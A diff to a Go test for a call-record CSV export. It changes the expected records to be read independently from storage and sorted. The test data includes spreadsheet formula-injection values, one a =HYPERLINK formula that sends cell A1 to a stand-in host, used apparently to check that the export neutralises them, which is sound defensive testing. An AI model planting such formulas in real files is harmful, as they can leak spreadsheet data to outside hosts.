@@ -15,6 +15,7 @@ import (
 	"reflect"
 	"regexp"
 	"slices"
+	"sort"
 	"strconv"
 	"strings"
 	"sync"
@@ -633,10 +634,24 @@ func TestCDRExportStream(t *testing.T) {
 	evil := testCDR(77, at("2024-03-02T08:00:00Z"))
 	evil.Calling, evil.Destination, evil.TermCauses = `=HYPERLINK("http://x/?"&A1,"y")`, "@SUM(1)", []string{"+1 cause", "ok"}
 	mustStore(t, a, evil)
-	want, err := a.cdrs(context.Background(), dayRange{})
+	// what storage holds, read without the export's code, in export order
+	var want []CDR
+	all, err := a.storage.List(context.Background(), cdrsPrefix(), true)
 	if err != nil {
 		t.Fatal(err)
 	}
+	for _, k := range all {
+		var c CDR
+		if ok, err := a.state.loadJSON(context.Background(), k, &c); err == nil && ok {
+			want = append(want, c)
+		}
+	}
+	sort.SliceStable(want, func(i, j int) bool {
+		if !want[i].Received.Equal(want[j].Received) {
+			return want[i].Received.Before(want[j].Received)
+		}
+		return want[i].TransactionID < want[j].TransactionID
+	})
 	ad := &adminAPI{app: a, log: zap.NewNop()}
 	get := func(uri string) string {
 		rec := httptest.NewRecorder()
